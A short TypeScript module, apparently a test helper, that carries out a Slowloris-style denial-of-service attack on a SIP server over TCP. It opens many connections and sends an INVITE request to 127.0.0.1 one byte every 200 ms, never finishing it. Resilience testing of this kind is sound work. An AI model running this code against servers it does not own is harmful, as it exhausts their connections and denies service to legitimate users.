/** Slowloris by TCP: connections that send a request a byte at a time and never end it. */
import { connect, type Socket } from 'node:net';

const EVERY = 200;
const TEXT =
  'INVITE sip:102@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/TCP 127.0.0.1;branch=z9hG4bKslow\r\nContent-Length: 100000\r\n\r\n';

export class SlowConnections {
  readonly #sockets: Socket[];
  readonly #timer: NodeJS.Timeout;

  private constructor(sockets: Socket[]) {
    this.#sockets = sockets;
    let at = 0;
    this.#timer = setInterval(() => {
      for (const socket of this.#sockets) socket.write(TEXT[at] ?? 'x', () => {});
      at += 1;
    }, EVERY);
  }

  static async open(server: { host: string; port: number }, count: number): Promise<SlowConnections> {
    const sockets = Array.from({ length: count }, () => connect(server).on('error', () => {}));
    await Promise.all(
      sockets.map((socket) => new Promise((resolve) => socket.once('connect', resolve).once('close', resolve))),
    );
    return new SlowConnections(sockets);
  }

  async close(): Promise<void> {
    clearInterval(this.#timer);
    for (const socket of this.#sockets) socket.destroy();
  }
}
